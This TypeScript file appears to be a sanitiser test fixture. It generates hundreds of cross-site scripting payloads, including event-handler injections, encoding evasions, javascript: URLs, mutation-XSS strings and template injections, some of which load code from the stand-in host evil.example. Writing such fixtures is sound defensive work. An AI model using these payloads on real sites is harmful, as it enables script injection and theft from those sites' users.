// What people have typed to make a page run it: families × shapes, so that each is there in every combination. All of them set
// `__xss` or ask evil.example for something; neither may ever happen.

const run = "window.__xss=1";
const evil = "https://evil.example/x";

/** Elements that load, and so run what stands on them without anybody's doing. */
const loading = [
  "img src=x",
  "video src=x",
  "audio src=x",
  "source src=x",
  "input type=image src=x",
  "object data=x",
  "embed src=x",
  "image href=x",
];
const opening = [
  "svg",
  "body",
  "details open",
  "marquee",
  "input autofocus",
  "select autofocus",
  "textarea autofocus",
  "a tabindex=1 autofocus",
];
const events = [
  "onerror",
  "onload",
  "onfocus",
  "onpointerenter",
  "ontoggle",
  "onanimationstart",
  "onbegin",
  "oncontentvisibilityautostatechange",
];
const handlers = [...loading, ...opening].flatMap((tag) => events.map((event) => `<${tag} ${event}=${run}>`));

/** The same thing written so that a filter overlooks it. */
const disguises = ((attack: string): string[] => [
  attack,
  attack.toUpperCase().replaceAll("WINDOW.__XSS", "window.__xss"),
  attack.replace("<img ", "<img/"),
  attack.replace("<img ", "<img\u00a0"),
  attack.replace("onerror", "onerror\u3000"),
  attack.replace("<", "&lt;"),
  attack.replace("<", "&#x3c;"),
  attack.replace("<", "\\u003c"),
  attack.replace("<", "%3C"),
  attack.replace("<", "＜"),
  attack.replace(">", ""),
  `"><${attack.slice(1)}`,
  `'><${attack.slice(1)}`,
  `\`><${attack.slice(1)}`,
  `--><${attack.slice(1)}`,
  `]]><${attack.slice(1)}`,
  `</title><${attack.slice(1)}`,
  `</textarea><${attack.slice(1)}`,
  `</script><${attack.slice(1)}`,
  `</style><${attack.slice(1)}`,
  `<<${attack.slice(1)}`,
  `<mark>${attack}</mark>`,
])(`<img src=x onerror=${run}>`);

const scripts = ["", " src=data:,window.__xss=1", ` src=${evil}`, " type=module", " async defer", "\u000b", " nonce=", "/x"].flatMap(
  (more) => [`<script${more}>${run}</script>`, `<svg><script${more}>${run}</script></svg>`, `<math><script${more}>${run}</script></math>`],
);

const addresses = [
  "javascript:window.__xss=1",
  "JaVaScRiPt:window.__xss=1",
  "java\u00adscript:window.__xss=1",
  " javascript:window.__xss=1",
  "javascript://nordvik.example/%0awindow.__xss=1",
  "data:text/html,<script>parent.__xss=1</script>",
  "data:image/svg+xml,<svg onload=window.__xss=1>",
  "vbscript:x",
  "blob:x",
  evil,
];
const links = addresses.flatMap((to) => [
  `<a href="${to}">x</a>`,
  `<iframe src="${to}"></iframe>`,
  `<form action="${to}"><button>x</button></form>`,
  `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  `<math href="${to}">x</math>`,
  `<meta http-equiv=refresh content="0;url=${to}">`,
  `<base href="${to}">`,
  `<link rel=stylesheet href="${to}">`,
  `<object data="${to}"></object>`,
  `[x](${to})`,
  `![x](${to})`,
  to,
]);

const styles = [
  `<style>@import '${evil}';</style>`,
  `<style>body{background:url(${evil})}</style>`,
  `<div style="background:url(${evil})">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<p style="position:fixed;inset:0">over everything</p>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>x</b>`,
];

/** What a sanitiser reads as harmless and a browser, reading it a second time, does not. */
const twice = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;top.__xss=1&amp;lt;/script&amp;gt;'&gt;"></iframe>`,
  `<svg><animate attributeName=href values=javascript:${run} /><a id=x><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<select><template shadowrootmode=open><img src=x onerror=${run}></template></select>`,
  `<table><tr><td background=${evil}>x</table>`,
  `<img srcset="${evil} 2x">`,
  `<video poster=${evil}>`,
  `<body background=${evil}>`,
];

/** Languages of templates and messages: whoever fills them once must not fill them twice. */
const templates = [
  "{{constructor.constructor('window.__xss=1')()}}",
  "${window.__xss=1}",
  "<%= window.__xss=1 %>",
  "#{window.__xss=1}",
  "{name}",
  "{n, plural, one {x} other {y}}",
  "{0}",
  "<b>x</b>",
  "'{'",
  "$&$1",
  "%s%d",
  "__proto__",
];

/** More than three hundred, each on one line. */
export const hostileWords: readonly string[] = [...handlers, ...disguises, ...scripts, ...links, ...styles, ...twice, ...templates].map(
  (words) => words.replace(/[\p{Cc}\u2028\u2029]/gu, " ").trim(),
);

/** All of them in texts of at most `most` letters; what is longer alone is left to the longer fields. */
export function packed(most: number): string[] {
  const packs = [""];
  for (const words of hostileWords.filter((one) => one.length <= most)) {
    const last = packs.at(-1) ?? "";
    if (last.length + words.length + 1 <= most) packs[packs.length - 1] = `${last} ${words}`.trim();
    else packs.push(words);
  }
  return packs;
}
